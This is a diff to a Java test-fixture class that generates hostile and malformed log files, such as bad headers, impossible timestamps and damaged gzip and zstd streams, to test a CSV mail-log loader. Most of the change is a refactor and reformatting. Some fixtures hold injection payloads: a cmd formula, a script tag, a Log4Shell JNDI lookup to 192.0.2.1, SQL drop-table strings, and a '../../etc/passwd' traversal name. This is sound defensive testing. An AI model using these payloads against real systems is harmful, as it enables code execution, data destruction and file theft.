@@ -41,11 +41,20 @@ final class HostileKinds {
      * A file.
      *
      * @param name what it is, which is its name too
+     * @param latin its bytes, each as one letter
      * @param fate what becomes of it
      * @param stored rows
      * @param rejected lines
      */
-    record Kind(String name, byte[] content, Fate fate, long stored, long rejected) {
+    record Kind(String name, String latin, Fate fate, long stored, long rejected) {
+        static Kind of(String name, byte[] content, Fate fate, long stored, long rejected) {
+            return new Kind(name, new String(content, StandardCharsets.ISO_8859_1), fate, stored, rejected);
+        }
+
+        byte[] content() {
+            return latin.getBytes(StandardCharsets.ISO_8859_1);
+        }
+
         @Override
         public String toString() {
             return name;
@@ -75,11 +84,11 @@ final class HostileKinds {
     private static Kind loaded(String name, byte[] content, long stored, long rejected) {
         // No two files bring the same row.
         String own = new String(content, StandardCharsets.ISO_8859_1).replace("one.example", name + ".example");
-        return new Kind(name, own.getBytes(StandardCharsets.ISO_8859_1), Fate.LOADED, stored, rejected);
+        return new Kind(name, own, Fate.LOADED, stored, rejected);
     }
 
     private static Kind refused(String name, byte[] content) {
-        return new Kind(name, content, Fate.REFUSED, 0, 0);
+        return Kind.of(name, content, Fate.REFUSED, 0, 0);
     }
 
     private static Kind refused(String name, String text) {
@@ -87,7 +96,7 @@ final class HostileKinds {
     }
 
     private static Kind unreadable(String name, byte[] content) {
-        return new Kind(name, content, Fate.UNREADABLE, 0, 0);
+        return Kind.of(name, content, Fate.UNREADABLE, 0, 0);
     }
 
     static List<Kind> all() {
@@ -161,11 +170,24 @@ final class HostileKinds {
                 loaded("header-on-every-line", (HEADER + ROW).repeat(500), 500, 0),
                 loaded("time-named-a-hundred-times", twice("timeLogged"), 1, 0),
                 loaded("names-of-nothing", "type,timeLogged,rcpt,,,,,\n" + at("2026-11-19 10:00:00+0000"), 1, 0),
-                loaded("five-thousand-copied-headers", "type,timeLogged,rcpt" + many + "\n"
-                        + ("d,2026-11-19 10:00:00+0000,user@one.example" + ",x".repeat(5_000) + "\n").repeat(20), 20, 0),
-                loaded("name-of-a-hundred-thousand-letters", HEADER.strip() + "," + "n".repeat(100_000) + "\n" + ROW, 1, 0),
+                loaded(
+                        "five-thousand-copied-headers",
+                        "type,timeLogged,rcpt" + many + "\n"
+                                + ("d,2026-11-19 10:00:00+0000,user@one.example" + ",x".repeat(5_000) + "\n")
+                                        .repeat(20),
+                        20,
+                        0),
+                loaded(
+                        "name-of-a-hundred-thousand-letters",
+                        HEADER.strip() + "," + "n".repeat(100_000) + "\n" + ROW,
+                        1,
+                        0),
                 loaded("name-with-sql", HEADER.strip() + ",\"x'); drop table load; --\"\n" + ROW, 1, 0),
-                loaded("header-shrinks-and-grows", HEADER + ROW + "type,timeLogged\nd,2026-11-19 10:00:00+0000\n" + HEADER + ROW, 3, 0));
+                loaded(
+                        "header-shrinks-and-grows",
+                        HEADER + ROW + "type,timeLogged\nd,2026-11-19 10:00:00+0000\n" + HEADER + ROW,
+                        3,
+                        0));
     }
 
     private static String twice(String name) {
@@ -189,49 +211,131 @@ final class HostileKinds {
 
     private static List<Kind> cells() {
         return List.of(
-                loaded("types-of-nothing", HEADER + ROW.replaceFirst("d", "D") + ROW.replaceFirst("d", " d ")
-                        + ROW.replaceFirst("d", "\u00a0d") + ROW.replaceFirst("d", "dd"), 0, 4),
+                loaded(
+                        "types-of-nothing",
+                        HEADER
+                                + ROW.replaceFirst("d", "D")
+                                + ROW.replaceFirst("d", " d ")
+                                + ROW.replaceFirst("d", "\u00a0d")
+                                + ROW.replaceFirst("d", "dd"),
+                        0,
+                        4),
                 loaded("type-of-a-megabyte", HEADER + ROW.replaceFirst("d", "d".repeat(1 << 20)) + ROW, 1, 1),
-                loaded("sizes-that-are-none", HEADER + Arrays.stream("99999999999999999999,-1,1e309,NaN,0x10,1_000,٣".split(","))
-                        .map(size -> ROW.replace(",10,", "," + size + ",")).collect(Collectors.joining()), 7, 0),
-                loaded("addresses-that-are-none", HEADER + Arrays.stream(("256.1.1.1 1.2.3.4.5 fe80::1%eth0 [::1] 0x7f.1 "
-                        + "2001:db8::/33 ::ffff:192.0.2.1 1::2::3 127.1 4294967295").split(" "))
-                        .map(ip -> ROW.replace("192.0.2.1", ip)).collect(Collectors.joining()), 10, 0),
+                loaded(
+                        "sizes-that-are-none",
+                        HEADER
+                                + Arrays.stream("99999999999999999999,-1,1e309,NaN,0x10,1_000,٣".split(","))
+                                        .map(size -> ROW.replace(",10,", "," + size + ","))
+                                        .collect(Collectors.joining()),
+                        7,
+                        0),
+                loaded(
+                        "addresses-that-are-none",
+                        HEADER
+                                + Arrays.stream(("256.1.1.1 1.2.3.4.5 fe80::1%eth0 [::1] 0x7f.1 "
+                                                        + "2001:db8::/33 ::ffff:192.0.2.1 1::2::3 127.1 4294967295")
+                                                .split(" "))
+                                        .map(ip -> ROW.replace("192.0.2.1", ip))
+                                        .collect(Collectors.joining()),
+                        10,
+                        0),
                 loaded("recipient-of-a-megabyte", HEADER + row("x".repeat(1 << 20) + "@one.example"), 1, 0),
                 loaded("recipient-of-at-signs", HEADER + row("@".repeat(500)) + row("@") + row(""), 3, 0),
-                loaded("formulas-and-markup", HEADER + row("=cmd|' /C calc'!A0") + row("<script>alert(1)</script>")
-                        + row("${jndi:ldap://192.0.2.1/a}") + row("'; drop table load; --"), 4, 0),
-                loaded("a-job-a-row", HEADER + IntStream.range(0, 5_000)
-                        .mapToObj(i -> ROW.replace("j1", "j" + i + "'\\")).collect(Collectors.joining()), 5_000, 0));
+                loaded(
+                        "formulas-and-markup",
+                        HEADER
+                                + row("=cmd|' /C calc'!A0")
+                                + row("<script>alert(1)</script>")
+                                + row("${jndi:ldap://192.0.2.1/a}")
+                                + row("'; drop table load; --"),
+                        4,
+                        0),
+                loaded(
+                        "a-job-a-row",
+                        HEADER
+                                + IntStream.range(0, 5_000)
+                                        .mapToObj(i -> ROW.replace("j1", "j" + i + "'\\"))
+                                        .collect(Collectors.joining()),
+                        5_000,
+                        0));
     }
 
     private static List<Kind> times() {
         return List.of(
-                loaded("days-that-never-were", HEADER + at("2026-02-30 10:00:00+0000") + at("2026-13-01 10:00:00+0000")
-                        + at("2026-11-19 24:00:01+0000") + at("2026-11-19 10:61:00+0000"), 0, 4),
-                loaded("offsets-that-are-none", HEADER + at("2026-11-19 10:00:00+9999") + at("2026-11-19 10:00:00+24:00"), 0, 2),
-                loaded("seconds-of-epoch-without-end", HEADER + at("9".repeat(19)) + at("-" + "9".repeat(19)) + at("9".repeat(400)), 0, 3),
-                loaded("last-and-first-year", HEADER + at("9999-12-31 23:59:59+0000") + at("0001-01-01 00:00:00+0000"), 1, 1),
-                loaded("years-beyond", HEADER + at("+10000-01-01 00:00:00+0000") + at("-0001-01-01 00:00:00+0000"), 0, 2),
-                loaded("queued-in-another-century", HEADER + ROW.replace("2026-11-19 09", "1926-11-19 09")
-                        + ROW.replace("2026-11-19 09", "2126-11-19 09"), 2, 0),
-                loaded("every-offset", HEADER + IntStream.range(0, 1_440)
-                        .mapToObj(i -> at(String.format(java.util.Locale.ROOT, "2026-11-19 10:00:00%+03d%02d", i / 60 - 12, i % 60)))
-                        .collect(Collectors.joining()), 1_440, 0));
+                loaded(
+                        "days-that-never-were",
+                        HEADER
+                                + at("2026-02-30 10:00:00+0000")
+                                + at("2026-13-01 10:00:00+0000")
+                                + at("2026-11-19 24:00:01+0000")
+                                + at("2026-11-19 10:61:00+0000"),
+                        0,
+                        4),
+                loaded(
+                        "offsets-that-are-none",
+                        HEADER + at("2026-11-19 10:00:00+9999") + at("2026-11-19 10:00:00+24:00"),
+                        0,
+                        2),
+                loaded(
+                        "seconds-of-epoch-without-end",
+                        HEADER + at("9".repeat(19)) + at("-" + "9".repeat(19)) + at("9".repeat(400)),
+                        0,
+                        3),
+                loaded(
+                        "last-and-first-year",
+                        HEADER + at("9999-12-31 23:59:59+0000") + at("0001-01-01 00:00:00+0000"),
+                        1,
+                        1),
+                loaded(
+                        "years-beyond",
+                        HEADER + at("+10000-01-01 00:00:00+0000") + at("-0001-01-01 00:00:00+0000"),
+                        0,
+                        2),
+                loaded(
+                        "queued-in-another-century",
+                        HEADER
+                                + ROW.replace("2026-11-19 09", "1926-11-19 09")
+                                + ROW.replace("2026-11-19 09", "2126-11-19 09"),
+                        2,
+                        0),
+                loaded(
+                        "every-offset",
+                        HEADER
+                                + IntStream.range(0, 1_440)
+                                        .mapToObj(i -> at(String.format(
+                                                java.util.Locale.ROOT,
+                                                "2026-11-19 10:00:00%+03d%02d",
+                                                i / 60 - 12,
+                                                i % 60)))
+                                        .collect(Collectors.joining()),
+                        1_440,
+                        0));
     }
 
     private static List<Kind> compressed() {
         return List.of(
                 loaded("gzip-with-all-its-fields.gz", allFields(Logs.gzip(sound("fields"))), 1, 0),
-                loaded("gzip-of-many-empty-members.gz", Logs.joined(repeated(Logs.gzip(new byte[0]), 1_000), Logs.gzip(sound("members"))), 1, 0),
+                loaded(
+                        "gzip-of-many-empty-members.gz",
+                        Logs.joined(repeated(Logs.gzip(new byte[0]), 1_000), Logs.gzip(sound("members"))),
+                        1,
+                        0),
                 loaded("gzip-of-one-member-a-byte.gz", split(sound("split")), 1, 0),
                 loaded("gzip-padded-with-nuls.gz", Logs.joined(Logs.gzip(sound("padded")), new byte[1 << 20]), 1, 0),
-                loaded("zstd-after-frames-to-skip.zst", Logs.joined(repeated(skippable(100), 1_000), Logs.zstd(sound("skipped"))), 1, 0),
+                loaded(
+                        "zstd-after-frames-to-skip.zst",
+                        Logs.joined(repeated(skippable(100), 1_000), Logs.zstd(sound("skipped"))),
+                        1,
+                        0),
                 loaded("plain-named-gzip.gz", SOUND, 1, 0),
-                loaded("gzip-of-one-line-a-million-times.gz", Logs.gzip(bytes(HEADER + "x\n".repeat(300_000) + row("user@million"))), 1, 300_000),
-                new Kind("nothing.gz", new byte[0], Fate.EMPTY, 0, 0),
-                new Kind("gzip-of-nothing.gz", Logs.gzip(new byte[0]), Fate.EMPTY, 0, 0),
-                new Kind("header-only.zst", Logs.zstd(bytes(HEADER)), Fate.EMPTY, 0, 0));
+                loaded(
+                        "gzip-of-one-line-a-million-times.gz",
+                        Logs.gzip(bytes(HEADER + "x\n".repeat(300_000) + row("user@million"))),
+                        1,
+                        300_000),
+                Kind.of("nothing.gz", new byte[0], Fate.EMPTY, 0, 0),
+                Kind.of("gzip-of-nothing.gz", Logs.gzip(new byte[0]), Fate.EMPTY, 0, 0),
+                Kind.of("header-only.zst", Logs.zstd(bytes(HEADER)), Fate.EMPTY, 0, 0));
     }
 
     private static List<Kind> damaged() {
@@ -243,12 +347,12 @@ final class HostileKinds {
                 unreadable("gzip-with-another-length.gz", flipped(gzip, gzip.length - 1)),
                 unreadable("gzip-of-no-known-method.gz", flipped(gzip, 2)),
                 unreadable("zstd-with-another-checksum.zst", flipped(zstd, zstd.length - 1)),
-                unreadable("zstd-that-needs-a-dictionary.zst", new byte[] {
-                    0x28, (byte) 0xb5, 0x2f, (byte) 0xfd, 0x23, 1, 2, 3, 4, 10, 1, 0, 0
-                }),
-                unreadable("zstd-with-a-window-without-end.zst", new byte[] {
-                    0x28, (byte) 0xb5, 0x2f, (byte) 0xfd, 0, (byte) 0xff, 1, 0, 0
-                }),
+                unreadable(
+                        "zstd-that-needs-a-dictionary.zst",
+                        new byte[] {0x28, (byte) 0xb5, 0x2f, (byte) 0xfd, 0x23, 1, 2, 3, 4, 10, 1, 0, 0}),
+                unreadable(
+                        "zstd-with-a-window-without-end.zst",
+                        new byte[] {0x28, (byte) 0xb5, 0x2f, (byte) 0xfd, 0, (byte) 0xff, 1, 0, 0}),
                 unreadable("zstd-cut.zst", Arrays.copyOf(zstd, zstd.length - 6)));
     }
 
@@ -288,7 +392,8 @@ final class HostileKinds {
     private static byte[] allFields(byte[] gzip) {
         byte[] head = Arrays.copyOf(gzip, 10);
         head[3] = 0x02 | 0x04 | 0x08 | 0x10;
-        byte[] fields = Logs.joined(head, new byte[] {4, 0, 1, 2, 3, 4}, bytes("../../etc/passwd\0"), bytes("\u001b[2J\0"));
+        byte[] fields =
+                Logs.joined(head, new byte[] {4, 0, 1, 2, 3, 4}, bytes("../../etc/passwd\0"), bytes("\u001b[2J\0"));
         java.util.zip.CRC32 crc = new java.util.zip.CRC32();
         crc.update(fields);
         byte[] sum = {(byte) crc.getValue(), (byte) (crc.getValue() >> 8)};
